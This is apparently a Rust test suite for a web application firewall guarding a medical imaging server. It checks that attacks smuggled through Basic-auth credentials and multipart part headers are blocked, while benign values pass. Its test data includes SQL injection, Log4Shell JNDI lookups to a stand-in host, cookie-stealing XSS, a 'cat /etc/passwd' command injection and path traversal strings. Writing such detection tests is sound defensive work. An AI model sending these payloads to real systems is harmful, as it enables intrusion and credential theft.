//! What stands in headers and is decoded by applications: credentials of the Basic scheme, the header lines of a part, a
//! target's fragment.

use medward_waf::http1::HttpFinding;
use medward_waf::{Outcome, Verdict};

use crate::grammar::codec::base64;
use crate::requests::{Request, browser, get, judge, post};

const SQLI: &str = "x' UNION SELECT login,password FROM users-- -";

fn judge_authorization(value: &str) -> Verdict {
    let head = browser("GET", b"/orthanc/studies").with_header(b"Authorization", value.as_bytes());
    judge(&Request { head, body: Vec::new() })
}

fn basic(credentials: &str) -> String {
    format!("Basic {}", base64(credentials))
}

#[test]
fn user_and_password_of_the_basic_scheme_are_judged_as_what_they_decode_to() {
    for credentials in [
        format!("{SQLI}:secret"),
        format!("admin:{SQLI}"),
        "admin' or '1'='1:x".to_owned(),
        "admin'-- -:x".to_owned(),
        "a:b:' or '1'='1".to_owned(),
        "admin:'or'1'='1".to_owned(),
        "admin:1'/**/or/**/1=1#".to_owned(),
        "admin:${jndi:ldap://evil.example/a}".to_owned(),
        SQLI.to_owned(),
        "${jndi:ldap://evil.example/a}:x".to_owned(),
        "<script>alert(document.cookie)</script>:x".to_owned(),
        "x;cat /etc/passwd:x".to_owned(),
    ] {
        let token = base64(&credentials);
        for value in
            [basic(&credentials), format!("bAsIc  \t{token}"), format!("Basic {}", token.trim_end_matches('='))]
        {
            let verdict = judge_authorization(&value);
            assert_eq!(verdict.outcome, Outcome::Block, "{credentials} as {value}");
            assert_eq!(verdict.hits[0].variable, "REQUEST_HEADERS:Authorization");
        }
    }
    // As PHP and Python decode it: what is no base64 is not there.
    let mut token = base64(format!("{SQLI}:x"));
    token.insert(5, '!');
    assert_eq!(judge_authorization(&format!("Basic {token}")).outcome, Outcome::Block);
    let proxy = browser("GET", b"/").with_header(b"Proxy-Authorization", basic(SQLI).as_bytes());
    assert_eq!(judge(&Request { head: proxy, body: Vec::new() }).outcome, Outcome::Block);
}

#[test]
fn evidence_of_credentials_shows_no_more_than_what_matched() {
    let verdict = judge_authorization(&basic(&format!("admin:Geheim77{SQLI}")));
    let hit = verdict.hits.iter().find(|hit| hit.rule == "MW-SQLI-001").unwrap();
    let shown = format!("{}{}", hit.raw.text(), hit.decoded.text());
    assert!(!shown.contains("Geheim77"), "{shown}");
}

#[test]
fn honest_credentials_count_nothing() {
    for credentials in [
        "orthanc:orthanc",
        "admin:",
        ":x-access-token",
        "HOSPITAL\\wang.xm:Xy7#kp!2026",
        "王小明:密码是123456",
        "o'brien@example.org:it's-me & only me",
        "pacs:P@ss'w0rd\"99",
        "pacs:<3 my dog; & cat > mouse",
        "pacs:$(7hB|q`z^~*)=+[{]}",
        "pacs:a||b&&c--d##e/*f*/",
        "pacs:../..//~root",
        "pacs:100% %41 %00 &lt;",
        "pacs:or 1 and 2 select union",
        "pacs:{{x}} ${y} <%z%>",
        "pacs:1=1",
        "pacs:--;--'\"",
        // What a generator gives.
        "pacs:Yr;\"ce'^Kjh#",
        "pacs:T'=2j#[dvk?WyP/d",
        "pacs:q[s:x;w$N",
        "pacs:6[kuw><F'wRj5.e&\\ps",
        "his_client:eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
    ] {
        let verdict = judge_authorization(&basic(credentials));
        assert_eq!(verdict.outcome, Outcome::Pass, "{credentials}: {:?}", verdict.hits);
    }
    for value in ["Basic", "Basic ", "Basic !!!", "Bearer eyJhbGciOiJIUzI1NiJ9.e30.c2ln", "Digest username=\"o'brien\""]
    {
        assert_eq!(judge_authorization(value).score_in, 0, "{value}");
    }
}

/// An upload of one file under these header lines.
fn upload(lines: &str) -> Verdict {
    let body = format!("--b\r\n{lines}\r\n\r\n\u{0}\u{1}PNG\r\n--b--\r\n");
    judge(&post("/upload", "multipart/form-data; boundary=b", body.as_bytes()))
}

const DISPOSITION: &str = "Content-Disposition: form-data; name=\"f\"; filename=\"a.png\"";

#[test]
fn whatever_a_part_says_of_itself_is_judged() {
    let lines = [
        format!("{DISPOSITION}\r\nContent-Type: {SQLI}"),
        format!("{DISPOSITION}\r\nContent-Type: image/png; x={SQLI}"),
        format!("{DISPOSITION}\r\nX-Patient: {SQLI}"),
        format!("{DISPOSITION}\r\nContent-Type: image/png\r\nContent-ID: <script>alert(document.cookie)</script>"),
        format!("{DISPOSITION}\r\nContent-Location: ../../../../../etc/passwd"),
        format!("{DISPOSITION}; size=\"{SQLI}\""),
        format!("{DISPOSITION}; size*=utf-8''{}", crate::requests::percent_all(SQLI.as_bytes())),
        format!("{DISPOSITION}; {SQLI}=1"),
        format!("Content-Disposition: {SQLI}; name=\"f\"; filename=\"a.png\""),
        format!("{DISPOSITION}\r\nX-Api: ${{jndi:ldap://evil.example/a}}"),
    ];
    for lines in lines {
        let verdict = upload(&lines);
        let of_part = verdict.hits.iter().any(|hit| hit.variable == "MULTIPART_PART_VALUES:f");
        assert!(verdict.outcome == Outcome::Block && of_part, "{lines}: {:?}", verdict.hits);
    }
}

#[test]
fn honest_header_lines_of_a_part_count_nothing() {
    for lines in [
        "Content-Type: image/png",
        "Content-Type: application/dicom; transfer-syntax=1.2.840.10008.1.2.4.50\r\nContent-ID: <1.2.826.0.1@pacs.example>",
        "Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document\r\nContent-Length: 4",
        "Content-Type: text/plain; charset=\"utf-8\"; format=flowed; delsp=yes\r\nContent-Transfer-Encoding: 8bit",
        "Content-Type: application/octet-stream\r\nContent-Location: https://pacs.example/studies/1.2.3?frame=1#x",
        "Content-Type: application/octet-stream\r\nContent-Description: 王小明的胸片 (右侧), O'Brien & sons; v2",
        "Content-Type: text/xml; type=\"text/html\"; start=\"<root.message@cxf.apache.org>\"",
        "Content-MD5: Q2hlY2sgSW50ZWdyaXR5IQ==\r\nLast-Modified: Sat, 21 Nov 2026 08:00:00 GMT",
    ] {
        let verdict = upload(&format!("{DISPOSITION}\r\n{lines}"));
        assert_eq!(verdict.score_in, 0, "{lines}: {:?}", verdict.hits);
    }
    let dates = "; size=1234; creation-date=\"Wed, 12 Feb 1997 16:29:51 -0500\"; voice";
    assert_eq!(upload(&format!("{DISPOSITION}{dates}")).score_in, 0);
}

#[test]
fn flood_of_parameters_in_a_part_is_bounded_and_said() {
    let few = upload(&format!("{DISPOSITION}{}", "; x=1".repeat(32)));
    assert!(!few.partial && !few.parse.contains(&HttpFinding::TooManyValues));
    let flood = upload(&format!("{DISPOSITION}{}", "; x=1".repeat(33)));
    assert!(flood.partial && flood.parse.contains(&HttpFinding::TooManyValues));
}

#[test]
fn fragment_in_the_target_is_noted_and_no_reason_to_refuse() {
    for (target, noted) in [("/a?b=1#c", true), ("/a#", true), ("/a?b=%23c", false)] {
        let verdict = judge(&get(target.as_bytes()));
        assert_eq!(verdict.outcome, Outcome::Pass, "{target}");
        assert_eq!(verdict.parse.contains(&HttpFinding::TargetFragment), noted, "{target}");
    }
}
